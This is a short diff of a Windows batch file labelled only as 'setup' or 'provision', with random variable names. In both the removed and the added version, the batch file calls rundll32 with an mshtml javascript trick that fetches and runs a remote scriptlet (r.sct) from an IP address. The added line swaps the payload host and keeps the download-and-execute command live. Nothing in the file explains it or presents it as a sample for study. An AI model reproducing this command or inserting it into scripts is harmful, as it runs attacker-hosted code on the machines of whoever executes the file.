@@ -1,4 +1,4 @@
-REM provision 8201 v0
+REM setup 5243 v0
 @echo off
-set "zvhk=rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://192.0.2.44/r.sct")"
-call %zvhk%
+set geze=rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://198.51.100.9/r.sct")
+call %geze%
